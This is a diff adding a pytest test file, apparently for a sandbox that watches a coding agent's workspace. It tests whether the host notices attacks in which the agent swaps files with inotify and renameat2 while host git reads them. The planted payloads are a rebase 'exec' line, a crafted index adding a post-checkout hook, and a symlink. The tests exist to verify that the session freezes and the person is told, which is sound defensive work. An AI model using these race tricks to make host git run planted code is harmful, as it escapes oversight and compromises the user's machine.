@@ -1,0 +1,177 @@
+"""Files that an agent exchanges for the moment in which git on the host reads or writes them.
+
+The host judges whether each one is an attack: git there runs what was planted, or writes elsewhere. Nothing prevents
+that in time. What is promised is that the session is frozen and the person is told.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import shlex
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from test_protection_mappings import user
+from test_protection_watch import await_broken, await_watched
+
+from tests.programs import NO_CHECKPOINTS, git, wait_until
+
+__all__ = ["user"]  # a fixture
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root on the host")
+
+# Exchanges two names for MS milliseconds whenever NAME is opened or made in a folder: SWAP ONE OTHER MS FOLDER NAME
+SWAP = r"""
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/inotify.h>
+#include <unistd.h>
+
+int main(int count, char **words)
+{
+    int events = inotify_init();
+    inotify_add_watch(events, words[4], IN_CREATE | IN_OPEN);
+    close(open("ready", O_CREAT | O_WRONLY, 0600));
+    puts("ready");
+    fflush(stdout);
+    char buffer[65536];
+    for (;;) {
+        ssize_t length = read(events, buffer, sizeof buffer);
+        for (char *at = buffer; at < buffer + length;) {
+            struct inotify_event *event = (struct inotify_event *)at;
+            if (event->len && !strcmp(event->name, words[5])) {
+                renameat2(AT_FDCWD, words[1], AT_FDCWD, words[2], RENAME_EXCHANGE);
+                usleep(1000 * atoi(words[3]));
+                renameat2(AT_FDCWD, words[1], AT_FDCWD, words[2], RENAME_EXCHANGE);
+            }
+            at += sizeof *event + event->len;
+        }
+    }
+}
+"""
+
+REBASE = r"""
+git -c user.name=a -c user.email=a@b -c sequence.editor='sed -i s/^pick/edit/' rebase -q -i HEAD~1 2>&1
+printf 'break\nbreak\nbreak\n' >.git/rebase-merge/git-rebase-todo
+echo 'exec touch EVIL' >.git/rebase-merge/zz
+"""
+INDEX = r"""
+blob=$(printf '#!/bin/sh\ntouch EVIL\n' | git hash-object -w --stdin)
+export GIT_INDEX_FILE=.git/objects/zz
+git update-index --add --cacheinfo "100755,$blob,.gix/hooks/post-checkout"
+sed -i 's,.gix/hooks,.git/hooks,' .git/objects/zz
+"""
+LINK = r"""
+mkdir -p .git/objects/00
+ln -sf EVIL .git/objects/00/zz
+echo text >.git/COMMIT_EDITMSG
+"""
+
+# What the agent plants, the two names that it exchanges, the name in .git that it waits for, git's words.
+ATTACKS = {
+    "the list of a rebase": (
+        REBASE, ".git/rebase-merge/git-rebase-todo", ".git/rebase-merge/zz", "HEAD", ["rebase", "--continue"],
+    ),
+    "the index": (INDEX, ".git/index", ".git/objects/zz", "HEAD", ["checkout", "."]),
+    "the text of a commit": (
+        LINK, ".git/COMMIT_EDITMSG", ".git/objects/00/zz", "index.lock",
+        ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "--allow-empty", "-m", "x"],
+    ),
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def swap(tmp_path_factory) -> Path:
+    folder = tmp_path_factory.mktemp("swap")
+    (folder / "swap.c").write_text(SWAP)
+    subprocess.run(["gcc", "-O2", "-static", "-o", folder / "swap", folder / "swap.c"], check=True)
+    return folder / "swap"
+
+
+@pytest.fixture
+def repository(workspace, swap) -> Path:
+    """A workspace with two commits, in which the program of the agent lies."""
+    git(workspace, "commit", "-q", "--allow-empty", "-m", "one")
+    git(workspace, "commit", "-q", "--allow-empty", "-m", "two")
+    git(workspace, "reset", "-q", "--hard")  # so that there is an index
+    (workspace / "swap").write_bytes(swap.read_bytes())
+    (workspace / "swap").chmod(0o755)
+    subprocess.run(["chown", "-R", "1000:1000", workspace], check=True)
+    return workspace
+
+
+def attack_of(name: str, evil: Path) -> str:
+    """The script of an attack: plant, and exchange what git reads for some milliseconds."""
+    plant, one, other, waits_for, _ = ATTACKS[name]
+    program = shlex.join(["./swap", one, other, "20", ".git", waits_for])
+    return f"{plant.replace('EVIL', str(evil))}\nexec {program}"
+
+
+def act(repository: Path, name: str) -> None:
+    """What the person does; that git fails is none of the test."""
+    words = ["git", "-C", repository, *ATTACKS[name][-1]]
+    environment = {**os.environ, "GIT_EDITOR": "true"}
+    subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, check=False, env=environment, timeout=60)
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_each_attack_is_one_where_nobody_watches(repository, tmp_path, name):
+    evil = tmp_path / "evil"
+
+    def succeeds() -> bool:
+        """Whether the program gets its turn before git has read the file."""
+        for path in ("rebase-merge", "hooks", "objects/00/zz", "objects/zz", "COMMIT_EDITMSG"):
+            shutil.rmtree(repository / ".git" / path, ignore_errors=True)
+            if os.path.lexists(repository / ".git" / path):
+                os.unlink(repository / ".git" / path)
+        (repository / ".git/hooks").mkdir()
+        git(repository, "reset", "-q", "--hard")
+        script = attack_of(name, evil)
+        with subprocess.Popen(["sh", "-ec", script], cwd=repository, stdout=subprocess.PIPE, text=True) as attack:
+            assert attack.stdout is not None
+            assert "ready\n" in iter(attack.stdout.readline, "")
+            act(repository, name)
+            attack.kill()
+        return evil.exists()
+
+    wait_until(succeeds, "git to do what was planted")
+
+
+@pytest.fixture
+def server(start_server):
+    return start_server(config=NO_CHECKPOINTS)
+
+
+def await_renames_watched(server, folder: Path) -> None:
+    """Wait until the server watches a folder for renames: the first look, which finds the folders, takes its time."""
+    inode = f" ino:{folder.stat().st_ino:x} "
+
+    def is_watched() -> bool:
+        infos = Path(f"/proc/{server.process.pid}/fdinfo").iterdir()
+        with contextlib.suppress(FileNotFoundError):  # a descriptor that was closed meanwhile
+            return any(inode in info.read_text() for info in infos)
+        return False
+
+    wait_until(is_watched, "renames to be watched")
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_an_exchange_for_some_milliseconds_freezes_the_session(bed, server, repository, name, user):
+    session = server.create(repository)
+    await_watched(server, session)
+    await_renames_watched(server, repository / ".git/refs/heads")
+    evil = repository.parent.parent / "evil"
+    bed.attack(session["id"], f"cd /workspace; export HOME=/home/code\n{attack_of(name, evil)}", user)
+    wait_until((repository / "ready").exists, "the agent to lie in wait")
+    act(repository, name)
+    path = f"{repository}/{ATTACKS[name][1]}"
+    wait_until(lambda: path in {one["path"] for one in await_broken(server, session)["changes"]}, "the file to be told")
+    evil.unlink(missing_ok=True)
+    act(repository, name)
+    assert not evil.exists()
